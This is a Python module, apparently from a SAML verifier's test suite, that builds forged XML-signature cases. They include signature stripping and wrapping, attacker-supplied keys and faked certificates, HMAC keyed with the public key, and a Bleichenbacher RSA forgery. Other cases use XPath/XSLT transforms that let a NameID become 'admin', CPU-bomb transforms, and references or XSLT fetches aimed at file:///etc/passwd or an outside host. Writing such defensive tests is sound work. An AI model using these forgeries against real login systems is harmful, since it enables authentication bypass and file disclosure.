"""Signatures that are none, or of another: stripped, by other keys, by weak methods.

Where the trick is in how a thing is signed, it is signed so, by the key of the sender:
an attacker may have got that from a lenient one. All else carries what the attacker
wants, signed with what she has.
"""

import hashlib
import hmac
import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from lxml import etree

from eilogin.saml import safe_xml
from eilogin.saml.printable_text import to_base64
from eilogin.saml.signing_keys import SigningKey
from eilogin.saml.xml_signatures import ECDSA_SHA256, RSA_SHA256, SHA256
from forging import INSIDE, MALFORMED, ROOT, UNTRUSTED, Family, Message
from forging.signing import (
    BASE64,
    EXCLUSIVE,
    HMAC_SHA1,
    HMAC_SHA256,
    INCLUSIVE,
    INCLUSIVE_11,
    MD5,
    MORE,
    MORE_2007,
    RSA_MD5,
    RSA_PSS,
    RSA_SHA1,
    SHA1,
    USUAL,
    WITH_COMMENTS,
    XPATH,
    XPATH_2,
    XSLT,
    Signing,
    canonical,
    copied,
    public_pem,
    reference,
    set_value,
    sign,
    transform,
    value_of,
    without,
)

SIGNATURES = Family("signature")

_SIGNATURE = safe_xml.q("ds:Signature")
_NAME_ID = f".//{safe_xml.q('saml:NameID')}"
_BOTH = (MALFORMED, UNTRUSTED)


def _evil(message: Message, how: Signing) -> bytes:
    """What the attacker wants, signed so, in the place of the signed one."""
    evil = message.evil()
    sign(evil, how)
    return message.instead(evil)


def _good(message: Message, how: Signing) -> bytes:
    """The good one, truly signed so by its sender."""
    sign(message.covered, how)
    return message.octets


# --- none -----------------------------------------------------------------------------

STRIPPED = Family("signature-exclusion", reasons=(UNTRUSTED,))


@STRIPPED("unsigned")
def unsigned(message: Message) -> bytes:
    return message.instead(message.evil())


@STRIPPED("signature-taken-off")
def signature_taken_off(message: Message) -> bytes:
    return message.instead(without(message.covered, _SIGNATURE))


@STRIPPED("empty-signature", reasons=(MALFORMED,))
def empty_signature(message: Message) -> bytes:
    evil = message.evil()
    evil.insert(1, etree.Element(_SIGNATURE))
    return message.instead(evil)


def _stripped(name: str, path: str, *, reasons: tuple[str, ...]) -> None:
    """A signature from which something was taken."""

    @STRIPPED(f"no-{name}", reasons=(MALFORMED,))
    def gone(message: Message) -> bytes:
        evil = message.evil()
        found = sign(evil, Signing(message.stranger)).find(path)
        found.getparent().remove(found)
        return message.instead(evil)

    @STRIPPED(f"empty-{name}", reasons=reasons)
    def empty(message: Message) -> bytes:
        evil = message.evil()
        found = sign(evil, Signing(message.stranger)).find(path)
        found.text = None
        for child in list(found):
            found.remove(child)
        return message.instead(evil)


_stripped("signed-info", safe_xml.q("ds:SignedInfo"), reasons=(MALFORMED,))
_stripped("signature-value", safe_xml.q("ds:SignatureValue"), reasons=(UNTRUSTED,))
_stripped("reference", f".//{safe_xml.q('ds:Reference')}", reasons=(MALFORMED,))
_stripped("digest-value", f".//{safe_xml.q('ds:DigestValue')}", reasons=_BOTH)
_stripped("transforms", f".//{safe_xml.q('ds:Transforms')}", reasons=(MALFORMED,))


@STRIPPED("signature-in-no-namespace", reasons=_BOTH)
def signature_in_no_namespace(message: Message) -> bytes:
    evil = message.evil()
    evil.insert(1, etree.Element("Signature"))
    return message.instead(evil)


@STRIPPED("signature-of-another-place", reasons=_BOTH)
def signature_of_another_place(message: Message) -> bytes:
    """A signature that holds, and nothing signed: it is deeper in the evil one."""
    evil = message.evil()
    signature = copied(message.signature)
    evil[-1].append(signature)
    return message.instead(evil)


@STRIPPED("changed-after-signing")
def changed(message: Message) -> bytes:
    """One value is another than was signed."""
    message.covered.set("IssueInstant", "2027-01-01T00:00:00Z")
    return message.octets


@STRIPPED("attribute-added-after-signing", reasons=_BOTH)
def attribute_added(message: Message) -> bytes:
    message.covered.set("{urn:example:x}admin", "true")
    return message.octets


@STRIPPED("signature-of-another-message")
def signature_of_another(message: Message) -> bytes:
    """One that the same key made, of another content, that refers to this one."""
    other = message.evil()
    other.set("ID", message.covered.get("ID", ""))
    signature = sign(other, Signing(message.key))
    message.covered.replace(message.signature, copied(signature))
    return message.octets


@STRIPPED("value-of-another-message")
def value_of_another(message: Message) -> bytes:
    evil = message.evil()
    signature = sign(evil, Signing(message.stranger))
    signature[1].text = message.signature[1].text
    return message.instead(evil)


# --- the key that is believed ---------------------------------------------------------

KEYS = Family("key-trust", reasons=(UNTRUSTED,))


def _key_info(inside: str) -> str:
    return f"<ds:KeyInfo>{inside}</ds:KeyInfo>"


def _certificate(text: str) -> str:
    return f"<ds:X509Data><ds:X509Certificate>{text}</ds:X509Certificate></ds:X509Data>"


def _by_stranger(name: str, inside: Callable[[Message], str]) -> None:
    """Signed by a stranger, who says what in KeyInfo."""

    @KEYS(name)
    def by_stranger(message: Message) -> bytes:
        said = _key_info(inside(message)) if inside(message) else ""
        return _evil(message, Signing(message.stranger, behind=said))


def _number(value: int) -> str:
    return to_base64(value.to_bytes((value.bit_length() + 7) // 8, "big"))


def key_value(key: SigningKey) -> str:
    """The public half of an RSA key, as ds:KeyValue."""
    numbers: Any = key.public.public_numbers()
    return (
        f"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{_number(numbers.n)}</ds:Modulus>"
        f"<ds:Exponent>{_number(numbers.e)}</ds:Exponent></ds:RSAKeyValue>"
        "</ds:KeyValue>"
    )


def _faked(message: Message) -> str:
    """A certificate that says all that the real one says, of the stranger's key."""
    real, private = message.key.certificate, message.stranger.private
    made = (
        x509.CertificateBuilder()
        .subject_name(real.subject)
        .issuer_name(real.issuer)
        .serial_number(real.serial_number)
        .not_valid_before(real.not_valid_before_utc)
        .not_valid_after(real.not_valid_after_utc)
        .public_key(private.public_key())
        .sign(private, hashes.SHA256())
    )
    return to_base64(made.public_bytes(serialization.Encoding.DER))


def _of_no_version(message: Message) -> str:
    """A certificate of a version of X.509 that there is not."""
    der = message.stranger.certificate.public_bytes(serialization.Encoding.DER)
    version = bytes.fromhex("a0030201")
    return to_base64(der.replace(version + b"\2", version + b"\1", 1))


_by_stranger("attacker-key", lambda _: "")
_by_stranger(
    "attacker-certificate", lambda m: _certificate(m.stranger.certificate_text)
)
_by_stranger("sender-certificate", lambda m: _certificate(m.key.certificate_text))
_by_stranger("faked-certificate", lambda m: _certificate(_faked(m)))
_by_stranger("attacker-key-value", lambda m: key_value(m.stranger))
_by_stranger(
    "attacker-key-value-beside-certificate",
    lambda m: key_value(m.stranger) + _certificate(m.key.certificate_text),
)
_by_stranger(
    "both-certificates",
    lambda m: (
        _certificate(m.key.certificate_text) + _certificate(m.stranger.certificate_text)
    ),
)
_by_stranger("key-name-of-sender", lambda _: "<ds:KeyName>signing</ds:KeyName>")
_by_stranger("certificate-that-is-none", lambda _: _certificate("bm8gY2VydGlmaWNhdGU="))
_by_stranger("certificate-of-no-version", lambda m: _certificate(_of_no_version(m)))
_by_stranger(
    "issuer-serial-of-sender",
    lambda m: (
        "<ds:X509Data><ds:X509IssuerSerial><ds:X509IssuerName>CN=x</ds:X509IssuerName>"
        f"<ds:X509SerialNumber>{m.key.certificate.serial_number}"
        "</ds:X509SerialNumber></ds:X509IssuerSerial></ds:X509Data>"
    ),
)


@KEYS("member-key")
def by_member(message: Message) -> bytes:
    """Signed by somebody whom we know, who is somebody else."""
    said = _key_info(_certificate(message.member.certificate_text))
    return _evil(message, Signing(message.member, behind=said))


def _pointing(name: str, inside: str, **more: Any) -> None:
    """What in KeyInfo points elsewhere; truly signed, so that somebody would follow."""

    @KEYS(name, reasons=(MALFORMED,), **more)
    def pointing(message: Message) -> bytes:
        said = _key_info(inside.format(outside=message.outside))
        return _good(message, Signing(message.key, behind=said))

    @KEYS(f"{name}-by-stranger", reasons=(MALFORMED,))
    def pointing_by_stranger(message: Message) -> bytes:
        said = _key_info(inside.format(outside=message.outside))
        return _evil(message, Signing(message.stranger, behind=said))


_X509 = safe_xml.DS + "X509Data"
_RAW = safe_xml.DS + "rawX509Certificate"
_pointing("retrieval-method", f'<ds:RetrievalMethod URI="{{outside}}" Type="{_X509}"/>')
_pointing(
    "retrieval-method-raw", f'<ds:RetrievalMethod URI="{{outside}}" Type="{_RAW}"/>'
)
_pointing(
    "retrieval-method-file",
    f'<ds:RetrievalMethod URI="file:///etc/passwd" Type="{_RAW}"/>',
)
_pointing(
    "retrieval-method-xslt",
    f'<ds:RetrievalMethod URI="#x" Type="{_X509}"><ds:Transforms>'
    f'<ds:Transform Algorithm="{XSLT}"/></ds:Transforms></ds:RetrievalMethod>',
)
_pointing(
    "retrieval-method-in-x509-data",
    f'<ds:X509Data><ds:RetrievalMethod URI="{{outside}}" Type="{_RAW}"/></ds:X509Data>',
)
_pointing(
    "key-info-reference",
    f'<d:KeyInfoReference xmlns:d="{safe_xml.DS11}" URI="{{outside}}"/>',
)
_pointing(
    "certificate-by-url",
    '<x:X509URL xmlns:x="urn:example:x">{outside}</x:X509URL>',
)
_pointing(
    "der-encoded-key-value",
    f'<d:DEREncodedKeyValue xmlns:d="{safe_xml.DS11}">AA==</d:DEREncodedKeyValue>',
)
_pointing("pgp-data", "<ds:PGPData><ds:PGPKeyID>AA==</ds:PGPKeyID></ds:PGPData>")
_pointing("spki-data", "<ds:SPKIData><ds:SPKISexp>AA==</ds:SPKISexp></ds:SPKIData>")
_pointing("management-data", "<ds:MgmtData>{outside}</ds:MgmtData>")
_pointing(
    "encrypted-key",
    f'<x:EncryptedKey xmlns:x="{safe_xml.XENC}"><x:CipherData><x:CipherReference'
    ' URI="{outside}"/></x:CipherData></x:EncryptedKey>',
)
_pointing(
    "agreement-method",
    f'<x:AgreementMethod xmlns:x="{safe_xml.XENC}" Algorithm="{safe_xml.XENC}dh"/>',
)
_pointing(
    "dsa-key-value",
    "<ds:KeyValue><ds:DSAKeyValue><ds:Y>AA==</ds:Y></ds:DSAKeyValue></ds:KeyValue>",
)

# --- algorithms -----------------------------------------------------------------------

ALGORITHMS = Family("algorithm", reasons=(UNTRUSTED,))


def _mac(name: str, secret: Callable[[SigningKey], bytes], method: str) -> None:
    """A MAC whose secret everybody knows."""

    @ALGORITHMS(name)
    def mac(message: Message) -> bytes:
        hashed = "sha1" if method == HMAC_SHA1 else "sha256"

        def made(octets: bytes) -> bytes:
            return hmac.digest(secret(message.key), octets, hashed)

        return _evil(message, Signing(message.key, method=method, value=made))


def _der(key: SigningKey) -> bytes:
    return key.public.public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )


_mac("hmac-with-public-key", public_pem, HMAC_SHA256)
_mac("hmac-sha1-with-public-key", public_pem, HMAC_SHA1)
_mac("hmac-with-public-key-der", _der, HMAC_SHA256)
_mac("hmac-with-certificate", lambda k: k.certificate_text.encode(), HMAC_SHA256)
_mac(
    "hmac-with-certificate-pem",
    lambda k: k.certificate.public_bytes(serialization.Encoding.PEM),
    HMAC_SHA256,
)
_mac("hmac-with-nothing", lambda _: b"", HMAC_SHA256)


def _truncated(name: str, length: int, method: str) -> None:
    @ALGORITHMS(name, reasons=_BOTH)
    def truncated(message: Message) -> bytes:
        said = f"<ds:HMACOutputLength>{length}</ds:HMACOutputLength>"
        how = Signing(message.key, method=method, in_method=said, value=lambda _: b"\0")
        return _evil(message, how)


_truncated("hmac-of-no-bits", 0, HMAC_SHA256)
_truncated("hmac-of-8-bits", 8, HMAC_SHA1)
_truncated("truncation-of-rsa", 8, RSA_SHA256)


def _weak(name: str, **how: Any) -> None:
    """Truly signed by the key of the sender, with something that is too weak."""

    @ALGORITHMS(name, rule=how.pop("rule", "must"), holds=how.pop("holds", True))
    def weak(message: Message) -> bytes:
        return _good(message, Signing(message.key, **how))


_weak("rsa-sha1", method=RSA_SHA1)
_weak("rsa-md5", method=RSA_MD5)
_weak("rsa-sha224", method=MORE + "rsa-sha224", rule="policy")
_weak("digest-sha1", digest=SHA1)
_weak("digest-md5", digest=MD5)
_weak("digest-sha224", digest=MORE + "sha224", rule="policy")
_weak("digest-sha3", digest=MORE_2007 + "sha3-256", rule="policy", holds=False)
_weak("rsa-pss", method=RSA_PSS, rule="policy", holds=False)
_weak("all-sha1", method=RSA_SHA1, digest=SHA1)


def _misnamed(name: str, method: str, **more: Any) -> None:
    """Truly signed with RSA and SHA-256, and said to be so in other words."""

    @ALGORITHMS(name, **more)
    def misnamed(message: Message) -> bytes:
        def made(octets: bytes) -> bytes:
            return value_of(message.key, RSA_SHA256, octets)

        return _good(message, Signing(message.key, method=method, value=made))


_misnamed("ecdsa-by-rsa-key", ECDSA_SHA256)
_misnamed("dsa-by-rsa-key", safe_xml.DS + "dsa-sha1")
_misnamed("no-algorithm", "")
_misnamed("algorithm-none", "none")
_misnamed("algorithm-null", safe_xml.DS + "null")
_misnamed("algorithm-in-upper-case", RSA_SHA256.upper())
_misnamed("algorithm-with-blanks", f" {RSA_SHA256} ")
_misnamed("algorithm-with-tail", RSA_SHA256 + "#x")
_misnamed("algorithm-by-https", RSA_SHA256.replace("http:", "https:"))
_misnamed("digest-as-algorithm", SHA256)


@ALGORITHMS("two-algorithms", reasons=(MALFORMED,))
def two_algorithms(message: Message) -> bytes:
    how = Signing(message.stranger)
    how = replace(
        how,
        before=f'<ds:SignatureMethod Algorithm="{HMAC_SHA256}"/>',
        value=lambda octets: b"\0" * 32,
    )
    return _evil(message, how)


def _value(name: str, make: Callable[[Message, bytes], bytes]) -> None:
    """A value of the attacker's own making."""

    @ALGORITHMS(name)
    def value(message: Message) -> bytes:
        return _evil(message, Signing(message.key, value=lambda o: make(message, o)))


def _raw(key: SigningKey, padded: bytes) -> bytes:
    """RSA without anything around it."""
    private = key.private
    assert isinstance(private, RSAPrivateKey)
    numbers = private.private_numbers()
    modulus = numbers.public_numbers.n
    result = pow(int.from_bytes(padded, "big"), numbers.d, modulus)
    return result.to_bytes(256, "big")


_value("value-zero", lambda _, __: b"\0" * 256)
_value("value-one", lambda _, __: b"\0" * 255 + b"\1")
_value("value-short", lambda _, __: b"\1")
_value("value-of-modulus", lambda m, _: _modulus(m.key))
_value("value-is-the-octets", lambda _, octets: octets[:256].ljust(256, b"\0"))


def _modulus(key: SigningKey) -> bytes:
    numbers: Any = key.public.public_numbers()
    return numbers.n.to_bytes(256, "big")


@ALGORITHMS("rsa-without-digest-info")
def rsa_without_digest_info(message: Message) -> bytes:
    """By the sender's key, with PKCS #1 padding around the bare hash."""

    def made(octets: bytes) -> bytes:
        hashed = hashlib.sha256(octets).digest()
        padded = b"\0\1" + b"\xff" * (253 - len(hashed)) + b"\0" + hashed
        return _raw(message.key, padded)

    return _good(message, Signing(message.key, value=made))


@ALGORITHMS("rsa-with-garbage-after-digest-info")
def rsa_with_garbage(message: Message) -> bytes:
    """Bleichenbacher 2006: short padding, and something behind the hash."""

    def made(octets: bytes) -> bytes:
        info = bytes.fromhex("3031300d060960864801650304020105000420")
        start = b"\0\1" + b"\xff" * 8 + b"\0" + info + hashlib.sha256(octets).digest()
        return _raw(message.key, start.ljust(256, b"\0"))

    return _good(message, Signing(message.key, value=made))


# --- transforms -----------------------------------------------------------------------

TRANSFORMS = Family("reference-transform", reasons=(MALFORMED,))


def _transformed(name: str, *transforms: str, **more: Any) -> None:
    """Truly signed by the sender over what these transforms give.

    ``covers`` tells what that is, ``edit`` what the attacker makes of the rest.
    """
    covers = more.pop("covers", canonical)
    edit = more.pop("edit", None)
    c14n = more.pop("c14n", EXCLUSIVE)

    @TRANSFORMS(name, **more)
    def transformed(message: Message) -> bytes:
        how = Signing(message.key, transforms=transforms, covers=covers, c14n=c14n)
        sign(message.covered, how)
        if edit:
            edit(message.covered)
        return message.octets


def _other_name(covered: etree._Element) -> None:
    """Whom it names is another one now, though the signature holds."""
    for found in covered.iterfind(_NAME_ID):
        found.text = "admin"


def _name_taken_out(element: etree._Element) -> bytes:
    return canonical(without(element, _NAME_ID))


_ENVELOPED, _EXCLUSIVE = USUAL
_SHEET = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    "{}</xsl:stylesheet>"
)
_CONSTANT = '<xsl:template match="/"><constant/></xsl:template>'
_LOOP = (
    '<xsl:template match="/"><xsl:call-template name="l"/></xsl:template>'
    '<xsl:template name="l"><xsl:for-each select="//*"><xsl:for-each select="//*">'
    '<xsl:for-each select="//*"><xsl:for-each select="//*"><xsl:value-of '
    'select="count(//*)"/></xsl:for-each></xsl:for-each></xsl:for-each></xsl:for-each>'
    "</xsl:template>"
)
_DOCUMENT = (
    '<xsl:template match="/"><xsl:copy-of select="document(\'{outside}\')"/>'
    "</xsl:template>"
)
_EXCLUDING = "<ds:XPath>not(ancestor-or-self::node()[local-name()='NameID'])</ds:XPath>"
_SUBTRACTING = (
    f'<x:XPath xmlns:x="{XPATH_2}" Filter="subtract">//*[local-name()=\'NameID\']'
    "</x:XPath>"
)
_SLOW_PATH = "<ds:XPath>" + "count(//*/" * 6 + "*" + ")" * 6 + " &gt; 0</ds:XPath>"

_transformed(
    "xslt-constant-output",
    _ENVELOPED,
    transform(XSLT, _SHEET.format(_CONSTANT)),
    covers=lambda _: b'<?xml version="1.0"?>\n<constant/>\n',
    edit=_other_name,
    holds=True,
)
_transformed(
    "xpath-excludes-name-id",
    _ENVELOPED,
    transform(XPATH, _EXCLUDING),
    _EXCLUSIVE,
    covers=_name_taken_out,
    edit=_other_name,
    holds=True,
)
_transformed(
    "xpath-filter2-excludes-name-id",
    _ENVELOPED,
    transform(XPATH_2, _SUBTRACTING),
    _EXCLUSIVE,
    covers=_name_taken_out,
    edit=_other_name,
    holds=True,
)
_transformed(
    "xpath-that-takes-all",
    _ENVELOPED,
    transform(XPATH, "<ds:XPath>true()</ds:XPath>"),
    _EXCLUSIVE,
    holds=True,
)
_transformed("xpath-cpu-bomb", _ENVELOPED, transform(XPATH, _SLOW_PATH), _EXCLUSIVE)
_transformed(
    "xslt-cpu-bomb", _ENVELOPED, transform(XSLT, _SHEET.format(_LOOP)), _EXCLUSIVE
)
_transformed("base64-transform", _ENVELOPED, transform(BASE64))
_transformed("xpointer-transform", transform(safe_xml.DS + "xpointer", "x"), *USUAL)
_transformed("decrypt-transform", *USUAL, transform(safe_xml.XENC + "decryption#XML"))
_transformed("unknown-transform", *USUAL, transform("urn:example:x"))
_transformed("transform-without-algorithm", *USUAL, "<ds:Transform/>")
_transformed("enveloped-twice", _ENVELOPED, *USUAL, rule="policy", holds=True)
_transformed("c14n-twice", *USUAL, _EXCLUSIVE, rule="policy")
_transformed(
    "many-transforms", _ENVELOPED, *[_ENVELOPED] * 30, _EXCLUSIVE, rule="policy"
)
# Who takes whatever stands there for the enveloped transform finds that they hold.
for _place, _algorithm in (
    ("unknown", "urn:example:x"),
    ("base64", BASE64),
    ("xpath", XPATH),
    ("xslt", XSLT),
    ("c14n", EXCLUSIVE),
    ("nothing", ""),
):
    _transformed(f"{_place}-for-enveloped", transform(_algorithm), _EXCLUSIVE)
_transformed("c14n-before-enveloped", _EXCLUSIVE, _ENVELOPED)
_transformed("only-c14n", _EXCLUSIVE)
_transformed("without-transforms")
_transformed(
    "only-enveloped",
    _ENVELOPED,
    covers=lambda e: canonical(e, INCLUSIVE),
    rule="policy",
    holds=True,
)
_transformed(
    "inclusive-c14n",
    _ENVELOPED,
    transform(INCLUSIVE),
    covers=lambda e: canonical(e, INCLUSIVE),
    rule="policy",
    holds=True,
)
_transformed(
    "c14n11",
    _ENVELOPED,
    transform(INCLUSIVE_11),
    covers=lambda e: canonical(e, INCLUSIVE),
    rule="policy",
    holds=True,
)


@TRANSFORMS("c14n-with-comments-that-count", reasons=(UNTRUSTED,))
def comments_that_count(message: Message) -> bytes:
    """The hash is of comments too, which a reference by ID does not select."""
    message.covered.append(etree.Comment("x"))
    how = Signing(
        message.key,
        transforms=(_ENVELOPED, transform(WITH_COMMENTS)),
        covers=lambda element: canonical(element, WITH_COMMENTS),
    )
    return _good(message, how)


@TRANSFORMS("signed-info-with-comments-that-count", reasons=(UNTRUSTED,))
def comments_in_signed_info(message: Message) -> bytes:
    """Who drops the comments of what is signed finds another text there."""
    how = Signing(message.key, c14n=WITH_COMMENTS)
    signature = sign(message.covered, how)
    signature[0].insert(0, etree.Comment("x"))
    set_value(signature, how)
    return message.octets


_transformed(
    "inclusive-c14n-with-comments",
    _ENVELOPED,
    transform(INCLUSIVE + "#WithComments"),
    covers=lambda e: canonical(e, INCLUSIVE),
    rule="policy",
    holds=True,
)
_transformed("signed-info-by-inclusive-c14n", *USUAL, c14n=INCLUSIVE, rule="policy")
_transformed("signed-info-by-c14n11", *USUAL, c14n=INCLUSIVE_11, rule="policy")
_transformed(
    "signed-info-by-inclusive-c14n-with-comments",
    *USUAL,
    c14n=INCLUSIVE + "#WithComments",
    rule="policy",
)
_transformed("signed-info-by-xslt", *USUAL, c14n=XSLT)
_transformed("signed-info-by-nothing", *USUAL, c14n="")
_transformed(
    "long-prefix-list",
    _ENVELOPED,
    transform(
        EXCLUSIVE,
        f'<e:InclusiveNamespaces xmlns:e="{EXCLUSIVE}" PrefixList="'
        + " ".join(f"p{n}" for n in range(9))
        + '"/>',
    ),
    rule="policy",
)
_transformed(
    "xpath-in-c14n", _ENVELOPED, transform(EXCLUSIVE, _EXCLUDING), edit=_other_name
)


@TRANSFORMS("xslt-reads-elsewhere")
def xslt_reads_elsewhere(message: Message) -> bytes:
    """A document of another address, in the sheet: who runs it asks there."""
    sheet = _SHEET.format(_DOCUMENT.format(outside=message.outside))
    how = Signing(message.stranger, transforms=(_ENVELOPED, transform(XSLT, sheet)))
    return _evil(message, how)


# --- references -----------------------------------------------------------------------

REFERENCES = Family("reference", reasons=(MALFORMED,))


def _referring(name: str, uri: str, **more: Any) -> None:
    """Truly signed by the sender, with this URI; in it there is the ID."""
    said = more.pop("said", "")
    covers = more.pop("covers", canonical)

    @REFERENCES(name, **more)
    def referring(message: Message) -> bytes:
        identifier = message.covered.get("ID", "")
        address = uri.format(id=identifier, outside=message.outside)
        how = Signing(message.key, uri=address, reference=said, covers=covers)
        return _good(message, how)


_referring("reference-empty", "", places=(ROOT,), holds=True)
_referring("reference-empty-inside", "", places=(INSIDE,))
_referring("reference-dangling", "#nobody")
_referring("reference-to-http", "{outside}")
_referring("reference-to-http-and-id", "{outside}#{id}")
_referring("reference-to-file", "file:///etc/passwd")
_referring("reference-by-xpointer", "#xpointer(id('{id}'))", holds=True)
_referring("reference-to-all", "#xpointer(/)", places=(ROOT,), holds=True)
_referring("reference-escaped", "%23{id}")
_referring("reference-without-number-sign", "{id}")
_referring("reference-by-cid", "cid:{id}")
_referring("reference-with-blank", "#{id} ")
_referring("reference-twice-in-one", "#{id}#{id}")
_referring("reference-only-number-sign", "#")
for _kind in ("Object", "Manifest", "SignatureProperties"):
    _referring(
        f"reference-of-type-{_kind.lower()}",
        "#{id}",
        said=f' Type="{safe_xml.DS}{_kind}"',
        rule="policy",
        holds=True,
    )


@REFERENCES("reference-without-uri")
def reference_without_uri(message: Message) -> bytes:
    how = Signing(message.key)
    signature = sign(message.covered, how)
    found = signature.find(f".//{safe_xml.q('ds:Reference')}")
    del found.attrib["URI"]
    set_value(signature, how)
    return message.octets


def _two(message: Message, *, first: bool = False) -> bytes:
    """Two references, both right: one to what is signed, one to an Object."""
    how = Signing(message.key)
    text = f'<ds:Object xmlns:ds="{safe_xml.DS}" Id="beside">nothing</ds:Object>'
    covered = canonical(etree.fromstring(text))
    other = reference(
        "#beside", covered, replace(how, transforms=(transform(EXCLUSIVE),))
    )
    how = replace(
        how,
        behind=text,
        before=other if first else "",
        after="" if first else other,
    )
    return _good(message, how)


@REFERENCES("two-references", holds=True)
def two_references(message: Message) -> bytes:
    return _two(message)


@REFERENCES("two-references-first-beside", holds=True)
def two_references_first_beside(message: Message) -> bytes:
    return _two(message, first=True)


@REFERENCES("same-reference-twice", rule="policy", holds=True)
def same_reference_twice(message: Message) -> bytes:
    how = Signing(message.key)
    covered = without(message.covered, _SIGNATURE)
    again = reference(f"#{covered.get('ID')}", canonical(covered), how)
    return _good(message, replace(how, after=again))


@REFERENCES("many-references")
def many_references(message: Message) -> bytes:
    how = Signing(message.key)
    covered = without(message.covered, _SIGNATURE)
    again = reference(f"#{covered.get('ID')}", canonical(covered), how)
    return _good(message, replace(how, after=again * 100))


@REFERENCES("manifest", rule="policy")
def manifest(message: Message) -> bytes:
    """What is signed is a list, and the list has what is read.

    Who verifies the signature alone does not look whether the list is right.
    """
    evil = message.evil()
    identifier = evil.get("ID", "")
    how = Signing(message.key)
    listed = reference(f"#{identifier}", b"not that", how)
    text = (
        f'<ds:Object xmlns:ds="{safe_xml.DS}"><ds:Manifest Id="list">{listed}'
        "</ds:Manifest></ds:Object>"
    )
    covered = canonical(etree.fromstring(text)[0])
    how = replace(
        how,
        uri="#list",
        reference=f' Type="{safe_xml.DS}Manifest"',
        transforms=(transform(EXCLUSIVE),),
        covers=lambda _: covered,
        behind=text,
    )
    return _evil(message, how)


@REFERENCES("object-is-signed", holds=True)
def object_is_signed(message: Message) -> bytes:
    """The signature of the evil one holds, of an Object in itself."""
    text = f'<ds:Object xmlns:ds="{safe_xml.DS}" Id="signed">nothing</ds:Object>'
    covered = canonical(etree.fromstring(text))
    how = Signing(
        message.key,
        uri="#signed",
        transforms=(transform(EXCLUSIVE),),
        covers=lambda _: covered,
        behind=text,
    )
    return _evil(message, how)


@REFERENCES("part-is-signed", holds=True)
def part_is_signed(message: Message) -> bytes:
    """The signature refers to a child, which has an ID of its own and says little."""
    evil = message.evil()
    evil[0].set("Id", "part")
    covered = canonical(evil[0])
    how = Signing(
        message.key,
        uri="#part",
        transforms=(transform(EXCLUSIVE),),
        covers=lambda _: covered,
    )
    sign(evil, how)
    return message.instead(evil)


@REFERENCES("root-is-signed", places=(INSIDE,), holds=True)
def root_is_signed(message: Message) -> bytes:
    """The signature in an assertion refers to the Response around it."""
    for old in message.covered.findall(_SIGNATURE):
        message.covered.remove(old)
    how = Signing(
        message.key,
        uri=f"#{message.root.get('ID')}",
        covers=lambda _: canonical(message.root),
    )
    return _good(message, how)


@REFERENCES("sibling-is-signed", holds=True)
def sibling_is_signed(message: Message) -> bytes:
    """The signature is the evil one's, and of something in it that was signed."""
    evil = message.evil()
    whole = without(message.covered, _SIGNATURE)
    how = Signing(
        message.key,
        uri=f"#{whole.get('ID')}",
        transforms=(transform(EXCLUSIVE),),
        covers=lambda _: canonical(whole),
    )
    signature = sign(evil, how)
    safe_xml.add(signature, "ds:Object").append(whole)
    return message.instead(evil)


# --- hashes and values as texts -------------------------------------------------------

TEXTS = Family("digest", reasons=(MALFORMED,))


def _text(name: str, part: str, edit: Callable[[str], str], **more: Any) -> None:
    """The text of DigestValue or SignatureValue, written in another way."""

    @TEXTS(name, **more)
    def text(message: Message) -> bytes:
        octets = message.octets
        pattern = rf"({part}>)([^<]+)(</)".encode()
        found = re.search(pattern, octets)
        assert found
        made = edit(found[2].decode()).encode()
        return octets[: found.start(2)] + made + octets[found.end(2) :]

    def signed_anew(message: Message) -> bytes:
        """The same, and SignedInfo signed over that."""
        how = Signing(message.key)
        signature = sign(message.covered, how)
        found = signature.find(f".//{safe_xml.q('ds:DigestValue')}")
        found.text = edit(found.text)
        set_value(signature, how)
        return message.octets

    if part == "DigestValue":
        TEXTS(f"{name}-signed", **more)(signed_anew)


_text("digest-in-hex", "DigestValue", lambda t: "ab" * 32, reasons=_BOTH)
_text("digest-with-junk", "DigestValue", lambda t: f"!{t}")
_text("digest-without-padding", "DigestValue", lambda t: t.rstrip("="))
_text("digest-cut-off", "DigestValue", lambda t: t[:16], reasons=(UNTRUSTED,))
_text("digest-longer", "DigestValue", lambda t: "AAAA" + t, reasons=(UNTRUSTED,))
_text("digest-url-safe", "DigestValue", lambda t: "-_" + t[2:])
_text("digest-and-more", "DigestValue", lambda t: f"{t}AAAA")
_text("value-with-junk", "SignatureValue", lambda t: f"{t}!")
_text("value-and-more", "SignatureValue", lambda t: f"{t}AAAA", reasons=_BOTH)
_text("value-cut-off", "SignatureValue", lambda t: t[:-4], reasons=_BOTH)
_text("value-twice", "SignatureValue", lambda t: t + t, reasons=_BOTH)


for _family in (STRIPPED, KEYS, ALGORITHMS, TRANSFORMS, REFERENCES, TEXTS):
    SIGNATURES.take(_family)
